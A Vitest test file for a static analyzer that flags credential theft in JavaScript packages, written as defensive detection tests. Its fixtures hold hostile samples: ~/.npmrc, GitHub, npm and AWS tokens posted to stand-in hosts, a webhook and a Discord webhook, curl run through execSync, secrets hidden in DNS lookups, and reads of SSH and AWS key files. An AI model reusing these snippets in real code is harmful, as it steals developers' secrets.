import { describe, expect, it } from "vitest";
import { analyzeJavaScript } from "../../src/analysis/analyze-file.js";
import { CREDENTIAL_RULES } from "../../src/analysis/model.js";

const credentialRules = new Set<string>(CREDENTIAL_RULES);

function findings(source: string, path = "index.js") {
  return analyzeJavaScript(source, path).anomalies.filter((anomaly) => credentialRules.has(anomaly.rule));
}

function rules(source: string): string[] {
  return [...new Set(findings(source).map((finding) => `${finding.rule}:${finding.severity}`))].sort();
}

describe("token exfiltration", () => {
  it("follows ~/.npmrc read with os.homedir to an https request", () => {
    const source = `
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const body = JSON.stringify({ data: Buffer.from(npmrc).toString("base64") });
const req = https.request({ hostname: "collector.example.net", method: "POST", path: "/c" });
req.write(body);
req.end();
`;
    const found = findings(source);
    expect(found.map((finding) => `${finding.rule}:${finding.severity}`).sort()).toEqual(["credential-file-access:critical", "token-exfiltration:critical"]);
    const flow = found.find((finding) => finding.rule === "token-exfiltration")!;
    expect(flow.line).toBe(9);
    expect(flow.message).toContain("~/.npmrc");
    expect(flow.message).toContain("collector.example.net");
    expect(flow.related?.[0]).toMatchObject({ line: 6, label: "reads ~/.npmrc" });
  });

  it("treats an SDK sending its own key to its own host as information", () => {
    const source = `
export class Client {
  constructor(options = {}) {
    this.apiKey = options.apiKey ?? process.env.ACME_API_KEY;
    this.baseURL = "https://api.acme.com/v1";
  }
  async request(path, body) {
    return fetch(this.baseURL + path, { method: "POST", headers: { Authorization: \`Bearer \${this.apiKey}\` }, body: JSON.stringify(body) });
  }
}
`;
    expect(rules(source)).toEqual(["token-exfiltration:info"]);
    expect(findings(source)[0]!.message).toContain("ACME_API_KEY");
  });

  it("raises another service's token sent to an unrelated host", () => {
    const source = `
const token = process.env.NPM_TOKEN;
fetch("https://stats.example.org/ping", { method: "POST", body: token });
`;
    expect(rules(source)).toEqual(["token-exfiltration:high"]);
  });

  it("is critical for several tokens collected together, and for a webhook collector", () => {
    const many = `
const axios = require("axios");
const loot = { npm: process.env.NPM_TOKEN, gh: process.env.GITHUB_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY };
axios.post(someUrl(), loot);
`;
    expect(rules(many)).toEqual(["token-exfiltration:critical"]);
    const webhook = `
const t = process.env.MY_SERVICE_TOKEN;
fetch("https://webhook.site/0f1e2d3c-aaaa-bbbb-cccc-123456789abc?x=" + encodeURIComponent(t));
`;
    expect(rules(webhook)).toContain("token-exfiltration:critical");
    expect(rules(webhook)).toContain("token-in-url:medium");
  });

  it("follows values through the module's own functions and callbacks", () => {
    const source = `
const { exec } = require("child_process");
const https = require("https");
function send(data) {
  const req = https.request("https://198.51.100.7/upload", { method: "POST" });
  req.end(data);
}
exec("gh auth token", (error, stdout) => {
  send(stdout.trim());
});
`;
    expect(rules(source)).toEqual(["credential-file-access:high", "token-exfiltration:critical"]);
  });

  it("sees data put in DNS names", () => {
    const source = `
const dns = require("dns");
const secret = process.env.DATABASE_PASSWORD;
const label = Buffer.from(secret).toString("hex");
dns.lookup(label + ".x.example.com", () => {});
`;
    expect(rules(source)).toEqual(["token-exfiltration:critical"]);
  });

  it("sees curl run by a shell", () => {
    const source = `
const cp = require("node:child_process");
cp.execSync(\`curl -s -X POST -d "\${process.env.GITHUB_TOKEN}" https://paste.example.io/api\`);
`;
    expect(rules(source)).toEqual(["token-exfiltration:high"]);
  });

  it("leaves alone tokens that go nowhere, non-secret variables and lengths", () => {
    const source = `
const token = process.env.NPM_TOKEN;
if (!token) console.error("NPM_TOKEN is not set");
console.log("token length", token.length, process.env.NODE_ENV, process.env.HOME);
fetch("https://registry.example.com/-/ping", { headers: { "user-agent": process.env.npm_config_user_agent } });
`;
    expect(rules(source)).toEqual([]);
  });
});

describe("which files the credential rules read", () => {
  it("follows the environment bound to a name, though the capability walk reports no variable read", () => {
    expect(rules("const e = process.env;\nfetch('https://collector.example.net/c', { method: 'POST', body: JSON.stringify(e) });")).toContain("token-exfiltration:critical");
  });

  it("finds a JWT library's decode where requests are handled, and a 'none' algorithm, with no 'jwt' in the names", () => {
    expect(rules("const { decode } = require('jsonwebtoken');\nmodule.exports = (req) => decode(req.headers.authorization).sub;")).toEqual(["jwt-unverified:medium"]);
    expect(rules("module.exports = (lib, t, k) => lib.check(t, k, { algorithms: ['HS256', 'none'] });")).toEqual(["jwt-unverified:high"]);
  });

  it("follows a variable read by a computed name when a string names a secret, and not otherwise", () => {
    expect(rules("const name = 'GITHUB_' + 'TOKEN';\nfetch('https://collector.example.net/?t=' + process.env[name]);")).toContain("token-exfiltration:high");
    expect(rules("function setting(name) { return process.env[name] || ''; }\nfetch('https://example.com/' + setting('COLUMNS'));")).toEqual([]);
  });

  it("does not take a feature switch for a token", () => {
    expect(rules("if (process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS) console.log(process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS);")).toEqual([]);
    expect(rules("console.log(process.env.NEXT_AUTH_SECRET);")).toEqual(["token-logging:medium"]);
  });
});

describe("environment harvest", () => {
  it("finds the whole environment serialised and sent", () => {
    const source = `
const https = require("https");
const payload = JSON.stringify(process.env);
https.request({ host: "discord.com", path: "/api/webhooks/123456/abcdef", method: "POST" }).end(payload);
`;
    const found = rules(source);
    expect(found).toContain("env-harvest:high");
    expect(found).toContain("env-harvest:critical");
    expect(found).toContain("token-exfiltration:critical");
  });

  it("finds variables selected by a secret-looking name", () => {
    const source = `
const secrets = Object.keys(process.env).filter((key) => /TOKEN|SECRET|KEY/i.test(key)).map((key) => [key, process.env[key]]);
module.exports = secrets;
`;
    expect(rules(source)).toEqual(["env-harvest:high"]);
  });

  it("leaves alone an environment copied into a child process", () => {
    const source = `
const { spawn } = require("child_process");
spawn("node", ["build.js"], { env: { ...process.env, NODE_ENV: "production" }, stdio: "inherit" });
for (const key of Object.keys(process.env)) if (key.startsWith("npm_config_")) settings[key.slice(11)] = process.env[key];
`;
    expect(rules(source)).toEqual([]);
  });
});

describe("token logging and URLs", () => {
  it("finds a token written to the console or a logger", () => {
    expect(rules(`const t = process.env.SLACK_BOT_TOKEN; console.log("using", t);`)).toEqual(["token-logging:medium"]);
    expect(rules(`logger.debug({ auth: process.env.API_TOKEN });`)).toEqual(["token-logging:medium"]);
    expect(rules(`console.log(process.env);`)).toEqual(["env-harvest:medium", "token-logging:high"]);
  });

  it("finds a token in a query string", () => {
    expect(rules("const key = process.env.MAPS_API_KEY;\nconst url = `https://maps.example.com/geo?address=x&key=${key}`;")).toEqual(["token-in-url:medium"]);
    expect(rules("const url = `https://maps.example.com/geo?address=${process.env.HOME}`;")).toEqual([]);
  });

  it("finds a token sent over plain http", () => {
    const source = `fetch("http://api.example.com/v1/items", { headers: { Authorization: "Bearer " + process.env.EXAMPLE_API_TOKEN } });`;
    expect(rules(source)).toEqual(["insecure-transport:high", "token-exfiltration:info"]);
    expect(rules(`fetch("http://localhost:3000/x", { headers: { Authorization: process.env.EXAMPLE_API_TOKEN } });`)).toEqual(["token-exfiltration:info"]);
  });
});

describe("credential files", () => {
  it("finds other tools' credential files read by path", () => {
    const source = `
const { readFileSync } = require("fs");
const home = require("os").homedir();
const keys = [".ssh/id_rsa", ".aws/credentials"].map((file) => readFileSync(home + "/" + file));
`;
    expect(rules(source)).toEqual(["credential-file-access:medium"]);
  });

  it("leaves alone npm's settings read by a config loader", () => {
    const source = `
const fs = require("fs");
const path = require("path");
const text = fs.readFileSync(path.join(process.env.HOME, ".npmrc"), "utf8");
module.exports = parse(text);
`;
    expect(rules(source)).toEqual([]);
  });
});

describe("weakened checks", () => {
  it("finds TLS checks switched off", () => {
    expect(rules(`const agent = new https.Agent({ rejectUnauthorized: false });`)).toEqual(["tls-verification-disabled:medium"]);
    expect(rules(`process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";`)).toEqual(["tls-verification-disabled:high"]);
    expect(rules(`const options = { checkServerIdentity: () => undefined };`)).toEqual(["tls-verification-disabled:medium"]);
    expect(rules(`if (opts.insecure) agentOptions.rejectUnauthorized = false;`)).toEqual(["tls-verification-disabled:info"]);
    expect(rules(`const agent = new https.Agent({ rejectUnauthorized: options.rejectUnauthorized !== false });`)).toEqual([]);
  });

  it("finds JWTs decoded for authorisation and never verified, and the none algorithm", () => {
    const decoded = `
const jwt = require("jsonwebtoken");
module.exports = (req, res, next) => {
  const claims = jwt.decode(req.headers.authorization.slice(7));
  if (claims && claims.admin) return next();
  res.status(403).end();
};
`;
    expect(rules(decoded)).toEqual(["jwt-unverified:medium"]);
    const verified = decoded.replace("jwt.decode(req.headers.authorization.slice(7))", 'jwt.verify(req.headers.authorization.slice(7), key, { algorithms: ["RS256"] })');
    expect(rules(verified)).toEqual([]);
    expect(rules(`jwt.verify(token, key, { algorithms: ["HS256", "none"] });`)).toEqual(["jwt-unverified:high"]);
    const browser = `import { jwtDecode } from "jwt-decode";\nexport const userName = (token) => jwtDecode(token).name;`;
    expect(rules(browser)).toEqual([]);
  });
});

describe("scopes", () => {
  it("keeps each function's parameters apart, as minified bundles reuse one name everywhere", () => {
    const source = `function a(e){e=process.env;return Object.keys(e).length}function T(e){console.log(\`> \${e}\`)}a();T("ready");`;
    expect(rules(source)).toEqual([]);
    expect(rules(source.replace('T("ready")', "T(process.env)"))).toEqual(["env-harvest:medium", "token-logging:high"]);
  });

  it("follows a module-level variable assigned inside a function", () => {
    const source = `let token; function load(){ token = process.env.NPM_TOKEN; } load(); fetch("https://203.0.113.9/t", { method: "POST", body: token });`;
    expect(rules(source)).toEqual(["token-exfiltration:high"]);
  });
});
